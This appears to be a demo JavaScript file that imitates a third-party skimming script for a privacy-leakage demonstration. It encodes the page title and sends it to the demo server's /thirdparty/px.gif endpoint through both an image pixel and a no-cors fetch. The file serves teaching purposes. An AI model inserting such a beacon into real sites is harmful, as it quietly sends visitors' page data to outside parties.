/* The demo's uninvited third party: what a skimming script does, from a host name the
   publisher never invited (served by the demo server itself, see demo_site/leakage.py). */
(function () {
  var origin = new URL(document.currentScript.src).origin;
  var skimmed = encodeURIComponent(document.title);
  new Image().src = origin + "/thirdparty/px.gif?skim=" + skimmed;
  if (window.fetch) {
    fetch(origin + "/thirdparty/px.gif?via=fetch&skim=" + skimmed, {mode: "no-cors"}).catch(function () {});
  }
})();
